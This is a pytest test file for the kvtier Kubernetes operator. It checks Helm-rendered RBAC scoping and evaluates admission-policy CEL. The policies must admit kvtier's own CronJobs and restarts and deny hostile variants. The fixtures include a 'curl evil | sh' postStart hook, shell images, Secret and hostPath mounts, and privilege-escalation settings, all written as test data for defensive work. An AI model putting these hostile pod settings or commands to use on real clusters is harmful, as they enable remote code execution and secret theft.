"""RBAC as narrow as the install, and the operator's own identity held to what kvtier does
(audit v2, N3), through the real helm binary.

- Both install shapes: cluster-wide (a ClusterRole) and watchNamespaces (a Role and
  RoleBinding per namespace, nothing cluster-scoped; test_rbac.py shows the namespaced
  operator needs nothing more).
- The ValidatingAdmissionPolicies: their CEL, evaluated here with celpy as the API server
  would, allows the CronJob kvtier renders and the restart kvtier patches, and denies the
  same requests carrying another image, a token, a Secret, a scaled or re-imaged workload.
"""

from __future__ import annotations

import copy
from typing import Any

import celpy
import pytest
import yaml

from kvtier_operator import names
from kvtier_operator.context import RenderContext
from kvtier_operator.render.cronjob import render_cronjob
from kvtier_operator.render.object_evictor import render_object_evictor
from kvtier_operator.rollout import LWS, Workload, _patch
from kvtier_operator.validation import parse_tpc
from tests.chart.test_chart import by_kind, render
from tests.helpers import EXAMPLES, merge, tpc_doc

NAMESPACED = {"tieredprefixcaches", "pods", "events", "persistentvolumeclaims", "services",
              "configmaps", "cronjobs", "deployments", "statefulsets", "replicasets",
              "leaderworkersets", "tieredprefixcaches/status"}
SA = "system:serviceaccount:kvtier-system:rel-kvtier"


def resources(role: dict) -> set[str]:
    return {r for rule in role["rules"] for r in rule["resources"]}


def test_cluster_wide_shape_has_one_cluster_role_and_no_roles():
    objs = render()
    (cluster,) = by_kind(objs, "ClusterRole")
    assert NAMESPACED <= resources(cluster)
    assert not by_kind(objs, "Role") and not by_kind(objs, "RoleBinding")


def test_watch_namespaces_get_roles_and_no_cluster_rights():
    objs = render("watchNamespaces={ml,serving}", "referenceNamespaces={mooncake,ml}")
    cluster_wide = render()
    assert not by_kind(objs, "ClusterRole") and not by_kind(objs, "ClusterRoleBinding")
    roles = {(r["metadata"]["namespace"], r["metadata"]["name"]): r
             for r in by_kind(objs, "Role")}
    assert set(roles) == {("ml", "rel-kvtier"), ("serving", "rel-kvtier"),
                          ("mooncake", "rel-kvtier-references")}
    (wide,) = by_kind(cluster_wide, "ClusterRole")
    namespaced_rules = [rule for rule in wide["rules"]
                        if "customresourcedefinitions" not in rule["resources"]]
    for namespace in ("ml", "serving"):
        assert roles[namespace, "rel-kvtier"]["rules"] == namespaced_rules
    # what a cache may name in another namespace: the Mooncake master's Service and the
    # Mooncake client DaemonSet, only read
    assert roles["mooncake", "rel-kvtier-references"]["rules"] == [
        {"apiGroups": [""], "resources": ["services"], "verbs": ["get"]},
        {"apiGroups": ["apps"], "resources": ["daemonsets"], "verbs": ["get"]}]
    bindings = by_kind(objs, "RoleBinding")
    assert {(b["metadata"]["namespace"], b["roleRef"]["kind"], b["roleRef"]["name"])
            for b in bindings} == {("ml", "Role", "rel-kvtier"),
                                   ("serving", "Role", "rel-kvtier"),
                                   ("mooncake", "Role", "rel-kvtier-references")}
    for binding in bindings:
        assert binding["subjects"] == [{"kind": "ServiceAccount", "name": "rel-kvtier",
                                        "namespace": "kvtier-system"}]
    (deployment,) = by_kind(objs, "Deployment")
    env = {e["name"]: e.get("value") for e in
           deployment["spec"]["template"]["spec"]["containers"][0]["env"]}
    assert env["KVTIER_REFERENCE_NAMESPACES"] == "mooncake,ml"
    args = deployment["spec"]["template"]["spec"]["containers"][0]["args"]
    assert "--namespace=ml" in args and "--namespace=serving" in args


# ------------------------------------------------------------------ the policies

_ENV = celpy.Environment()


def _run(expression: str, activation: dict[str, Any]) -> Any:
    program = _ENV.program(_ENV.compile(expression))
    result = program.evaluate(activation)
    if isinstance(result, celpy.CELEvalError):
        raise result
    return result


def admitted(policy: dict, operation: str, resource: str, obj: dict | None,
             old: dict | None = None, user: str = SA) -> list[str]:
    """The messages of the validations that deny the request ([]: allowed)."""
    request = {"operation": operation, "userInfo": {"username": user},
               "resource": {"resource": resource}}
    activation: dict[str, Any] = {"request": celpy.json_to_cel(request),
                                  "object": celpy.json_to_cel(obj),
                                  "oldObject": celpy.json_to_cel(old)}
    spec = policy["spec"]
    if not all(_run(c["expression"], activation) for c in spec.get("matchConditions", [])):
        return []  # not the operator's request: the policy does not apply
    variables: dict[str, Any] = {}
    for variable in spec.get("variables", []):
        activation["variables"] = celpy.json_to_cel(variables) if not variables else \
            celpy.celtypes.MapType(variables)
        variables[celpy.celtypes.StringType(variable["name"])] = _run(
            variable["expression"], activation)
    activation["variables"] = celpy.celtypes.MapType(variables)
    denied = []
    for validation in spec["validations"]:
        try:
            ok = _run(validation["expression"], activation)
        except celpy.CELEvalError:
            ok = False  # failurePolicy Fail: an error denies
        if not ok:
            denied.append(validation["message"])
    return denied


@pytest.fixture(scope="module")
def policies() -> dict[str, dict]:
    objs = render()
    assert len(by_kind(objs, "ValidatingAdmissionPolicyBinding")) == 2
    return {p["metadata"]["name"].rsplit("-", 1)[1]: p
            for p in by_kind(objs, "ValidatingAdmissionPolicy")}


def test_the_policies_can_be_turned_off_for_kubernetes_1_29():
    assert not by_kind(render("operatorPolicy.enabled=false"), "ValidatingAdmissionPolicy")


def evictor_cronjob() -> dict:
    (deployment,) = by_kind(render(), "Deployment")
    image = deployment["spec"]["template"]["spec"]["containers"][0]["image"]
    tpc = parse_tpc(merge(tpc_doc(), {"metadata": {"uid": "u-1"}}))
    cronjob = render_cronjob(tpc, RenderContext(evictor_image=image))
    assert cronjob is not None
    return cronjob


def _pod(cronjob: dict) -> dict:
    return cronjob["spec"]["jobTemplate"]["spec"]["template"]["spec"]


HOSTILE_CRONJOBS = {
    "another image": lambda c: _pod(c)["containers"][0].update(image="evil/shell:1"),
    "another command": lambda c: _pod(c)["containers"][0].update(command=["sh", "-c", "id"]),
    "a Secret in env": lambda c: _pod(c)["containers"][0].update(env=[{
        "name": "T", "valueFrom": {"secretKeyRef": {"name": "db", "key": "password"}}}]),
    "envFrom": lambda c: _pod(c)["containers"][0].update(envFrom=[{"secretRef": {"name": "x"}}]),
    "a Secret volume": lambda c: _pod(c)["volumes"].append(
        {"name": "s", "secret": {"secretName": "db"}}),
    "a hostPath": lambda c: _pod(c)["volumes"].append({"name": "h", "hostPath": {"path": "/"}}),
    "a service account": lambda c: _pod(c).update(serviceAccountName="admin"),
    "a token": lambda c: _pod(c).update(automountServiceAccountToken=True),
    "an init container": lambda c: _pod(c).update(
        initContainers=[{"name": "i", "image": "evil/shell:1"}]),
    "host network": lambda c: _pod(c).update(hostNetwork=True),
    "a second container": lambda c: _pod(c)["containers"].append(
        copy.deepcopy(_pod(c)["containers"][0])),
    "no kvtier labels": lambda c: c["metadata"].pop("labels"),
    "another component": lambda c: c["metadata"]["labels"].update(
        {"kvtier.dev/component": "router"}),
    # a review's bypasses: the image's own shell through a hook, privilege, root, a node
    "a postStart hook": lambda c: _pod(c)["containers"][0].update(lifecycle={
        "postStart": {"exec": {"command": ["sh", "-c", "curl evil | sh"]}}}),
    "a liveness probe": lambda c: _pod(c)["containers"][0].update(livenessProbe={
        "exec": {"command": ["sh", "-c", "id"]}}),
    "privileged": lambda c: _pod(c)["containers"][0]["securityContext"].update(
        privileged=True),
    "escalation allowed": lambda c: _pod(c)["containers"][0]["securityContext"].update(
        allowPrivilegeEscalation=True),
    "root container": lambda c: _pod(c)["containers"][0]["securityContext"].update(runAsUser=0),
    "root pod": lambda c: _pod(c)["securityContext"].update(runAsUser=0),
    "root allowed": lambda c: _pod(c)["securityContext"].update(runAsNonRoot=False),
    "added capability": lambda c: _pod(c)["containers"][0]["securityContext"].update(
        capabilities={"add": ["SYS_ADMIN"]}),
    "a chosen node": lambda c: _pod(c).update(nodeName="gpu-node-1"),
}


def test_the_evictor_cronjob_kvtier_renders_is_allowed(policies):
    cronjob = evictor_cronjob()
    assert admitted(policies["cronjobs"], "CREATE", "cronjobs", cronjob) == []
    assert admitted(policies["cronjobs"], "UPDATE", "cronjobs", cronjob, cronjob) == []


@pytest.mark.parametrize("change", sorted(HOSTILE_CRONJOBS))
def test_a_cronjob_that_is_not_the_evictor_is_denied(policies, change):
    cronjob = evictor_cronjob()
    HOSTILE_CRONJOBS[change](cronjob)
    assert admitted(policies["cronjobs"], "CREATE", "cronjobs", cronjob) != []
    # anyone else's CronJob is none of this policy's business
    assert admitted(policies["cronjobs"], "CREATE", "cronjobs", cronjob,
                    user="system:serviceaccount:ml:ci") == []


def publishing_evictor_cronjob() -> dict:
    """The evictor of a cache whose router takes eviction events: it mounts the cache's
    <name>-event-pods ConfigMap (the pods it publishes to, #33), read-only."""
    (deployment,) = by_kind(render(), "Deployment")
    image = deployment["spec"]["template"]["spec"]["containers"][0]["image"]
    doc = merge(tpc_doc(), {"metadata": {"uid": "u-1"}, "spec": {"router": {
        "enabled": True, "scoring": "precise", "evictionEventsEndpoint": "tcp://epp:5590"}}})
    cronjob = render_cronjob(parse_tpc(doc), RenderContext(evictor_image=image))
    assert cronjob is not None
    assert any("configMap" in v for v in _pod(cronjob)["volumes"])
    return cronjob


def _event_pods_volume(cronjob: dict) -> dict:
    return next(v for v in _pod(cronjob)["volumes"] if "configMap" in v)


def _event_pods_mount(cronjob: dict) -> dict:
    return next(m for m in _pod(cronjob)["containers"][0]["volumeMounts"]
                if m["name"] == _event_pods_volume(cronjob)["name"])


HOSTILE_EVENT_PODS = {
    "another ConfigMap": lambda c: _event_pods_volume(c)["configMap"].update(name="other"),
    "another cache's ConfigMap": lambda c: _event_pods_volume(c)["configMap"].update(
        name="db-event-pods"),
    "a second ConfigMap": lambda c: _pod(c)["volumes"].append(
        {"name": "x", "configMap": {"name": "other"}}),
    "a Secret instead": lambda c: _pod(c).update(volumes=[
        v if "configMap" not in v else {"name": v["name"],
                                        "secret": {"secretName": "cache-event-pods"}}
        for v in _pod(c)["volumes"]]),
    "mounted writable": lambda c: _event_pods_mount(c).update(readOnly=False),
    "mounted without readOnly": lambda c: _event_pods_mount(c).pop("readOnly"),
    "on the object evictor": lambda c: c["metadata"]["labels"].update(
        {"kvtier.dev/component": "object-evictor"}),
}


def test_the_publishing_evictor_cronjob_kvtier_renders_is_allowed(policies):
    cronjob = publishing_evictor_cronjob()
    assert admitted(policies["cronjobs"], "CREATE", "cronjobs", cronjob) == []
    assert admitted(policies["cronjobs"], "UPDATE", "cronjobs", cronjob, cronjob) == []


@pytest.mark.parametrize("change", sorted(HOSTILE_EVENT_PODS))
def test_only_the_cache_s_event_pods_configmap_read_only_is_allowed(policies, change):
    cronjob = publishing_evictor_cronjob()
    HOSTILE_EVENT_PODS[change](cronjob)
    assert admitted(policies["cronjobs"], "CREATE", "cronjobs", cronjob) != []


OBJECTS = {"bucket": "kv-cache", "endpoint": "https://rgw.storage.svc:443", "budget": "10Ti",
           "credentialsSecret": {"name": "kv-s3", "sessionTokenKey": "token"}}


def object_evictor_cronjob() -> dict:
    """The object store's eviction CronJob (spec.objectStore), rendered with the chart's
    offload image as the operator gets it."""
    (deployment,) = by_kind(render(), "Deployment")
    env = {e["name"]: e.get("value") for e in
           deployment["spec"]["template"]["spec"]["containers"][0].get("env", [])}
    tpc = parse_tpc(merge(tpc_doc({"objectStore": OBJECTS}), {"metadata": {"uid": "u-1"}}))
    cronjob = render_object_evictor(tpc, RenderContext(
        offload_image=env["KVTIER_OFFLOAD_IMAGE"], allowed_object_endpoints=(OBJECTS["endpoint"],)))
    assert cronjob is not None
    return cronjob


HOSTILE_OBJECT_CRONJOBS = {
    "another image": lambda c: _pod(c)["containers"][0].update(image="evil/shell:1"),
    "another command": lambda c: _pod(c)["containers"][0].update(command=["sh", "-c", "id"]),
    "other kvtier_offload verb": lambda c: _pod(c)["containers"][0].update(
        args=["install", "--dest", "/"]),
    "another Secret key as env": lambda c: _pod(c)["containers"][0]["env"].append({
        "name": "T", "valueFrom": {"secretKeyRef": {"name": "db", "key": "password"}}}),
    "a literal credential": lambda c: _pod(c)["containers"][0]["env"].append({
        "name": "AWS_ACCESS_KEY_ID", "value": "x"}),
    "envFrom": lambda c: _pod(c)["containers"][0].update(envFrom=[{"secretRef": {"name": "x"}}]),
    "a Secret volume": lambda c: _pod(c).update(
        volumes=[{"name": "s", "secret": {"secretName": "db"}}]),
    "a token": lambda c: _pod(c).update(automountServiceAccountToken=True),
    "the evictor's image as object evictor": lambda c: _pod(c)["containers"][0].update(
        image=evictor_cronjob()["spec"]["jobTemplate"]["spec"]["template"]["spec"]
        ["containers"][0]["image"]),
}


def test_the_object_evictor_cronjob_kvtier_renders_is_allowed(policies):
    cronjob = object_evictor_cronjob()
    assert _pod(cronjob)["containers"][0]["env"], "the test needs the Secret env rendered"
    assert admitted(policies["cronjobs"], "CREATE", "cronjobs", cronjob) == []
    assert admitted(policies["cronjobs"], "UPDATE", "cronjobs", cronjob, cronjob) == []


@pytest.mark.parametrize("change", sorted(HOSTILE_OBJECT_CRONJOBS))
def test_an_object_cronjob_that_is_not_kvtier_s_is_denied(policies, change):
    cronjob = object_evictor_cronjob()
    HOSTILE_OBJECT_CRONJOBS[change](cronjob)
    assert admitted(policies["cronjobs"], "CREATE", "cronjobs", cronjob) != []


def workload(name: str) -> dict:
    return yaml.safe_load((EXAMPLES / name).read_text())


def restarted(obj: dict, kind: str) -> dict:
    return merge(obj, _patch(Workload(kind, obj["metadata"]["name"]), "abc123"))


def _template(obj: dict) -> dict:
    return obj["spec"]["template"]


HOSTILE_UPDATES = {
    "another image": lambda d: _template(d)["spec"]["containers"][0].update(image="evil:1"),
    "a new env var": lambda d: _template(d)["spec"]["containers"][0].setdefault(
        "env", []).append({"name": "X", "value": "1"}),
    "a service account": lambda d: _template(d)["spec"].update(serviceAccountName="admin"),
    "a template label": lambda d: _template(d)["metadata"]["labels"].update(app="other"),
    "another annotation": lambda d: _template(d)["metadata"].setdefault(
        "annotations", {}).update({"sidecar.istio.io/inject": "false"}),
    "scaled": lambda d: d["spec"].update(replicas=0),
    "paused": lambda d: d["spec"].update(paused=True),
    "an owner to collect it": lambda d: d["metadata"].update(ownerReferences=[{
        "apiVersion": "v1", "kind": "ConfigMap", "name": "doomed", "uid": "u-9"}]),
    "a finalizer": lambda d: d["metadata"].update(finalizers=["evil.example/hold"]),
}


def test_the_restart_kvtier_patches_is_allowed(policies):
    deployment = workload("vllm-deployment.yaml")
    assert admitted(policies["workloads"], "UPDATE", "deployments",
                    restarted(deployment, "Deployment"), deployment) == []
    lws = workload("tpu-leaderworkerset.yaml")
    assert lws["apiVersion"].startswith(LWS[0])
    assert admitted(policies["workloads"], "UPDATE", "leaderworkersets",
                    restarted(lws, "LeaderWorkerSet"), lws) == []
    again = restarted(deployment, "Deployment")  # a later restart replaces the stamp
    later = merge(again, _patch(Workload("Deployment", "x"), "def456"))
    assert admitted(policies["workloads"], "UPDATE", "deployments", later, again) == []


@pytest.mark.parametrize("change", sorted(HOSTILE_UPDATES))
def test_any_other_workload_change_is_denied(policies, change):
    deployment = workload("vllm-deployment.yaml")
    new = restarted(deployment, "Deployment")
    HOSTILE_UPDATES[change](new)
    assert admitted(policies["workloads"], "UPDATE", "deployments", new, deployment) != []
    assert admitted(policies["workloads"], "UPDATE", "deployments", new, deployment,
                    user="kubernetes-admin") == []


def test_a_leaderworkerset_worker_template_change_is_denied(policies):
    lws = workload("tpu-leaderworkerset.yaml")
    new = restarted(lws, "LeaderWorkerSet")
    new["spec"]["leaderWorkerTemplate"]["workerTemplate"]["spec"]["containers"][0][
        "image"] = "evil:1"
    assert admitted(policies["workloads"], "UPDATE", "leaderworkersets", new, lws) != []


@pytest.mark.parametrize("operation", ["CREATE", "DELETE"])
def test_the_operator_never_creates_or_deletes_workloads(policies, operation):
    deployment = workload("vllm-deployment.yaml")
    obj, old = (deployment, None) if operation == "CREATE" else (None, deployment)
    assert admitted(policies["workloads"], operation, "deployments", obj, old) != []


def test_the_restart_annotation_name_is_kvtier_s():
    assert names.ANNOTATION_RESTARTED_AT == "kvtier.dev/restartedAt"
